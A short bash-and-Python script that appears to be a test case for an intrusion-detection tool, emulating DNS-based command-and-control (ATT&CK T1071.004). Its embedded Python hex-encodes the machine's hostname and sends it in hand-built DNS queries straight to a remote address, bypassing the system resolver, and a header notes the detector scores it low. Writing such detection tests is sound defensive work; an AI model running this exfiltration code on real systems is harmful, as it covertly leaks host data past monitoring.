#!/usr/bin/env bash
# tactic: command-and-control
# technique: T1071.004 Application Layer Protocol: DNS
# behaviour: sends data hex-encoded in DNS-shaped UDP queries straight to an outside resolver (not the system resolver)
# as: user
# needs: remote
# expect: new_destination
# known-miss: only new_destination (+20, low): Python was in the baseline, so no context factor lifts it
set -u
python3 - "$SNTL_REMOTE" <<'PY'
import socket, sys, os
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect((sys.argv[1], 53))
data = os.uname().nodename.encode().hex()
for i in range(0, len(data), 30):
    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + bytes([len(data[i:i+30])]) + data[i:i+30].encode() + b"\x01t\x07example\x00\x00\x10\x00\x01"
    s.send(q)
PY
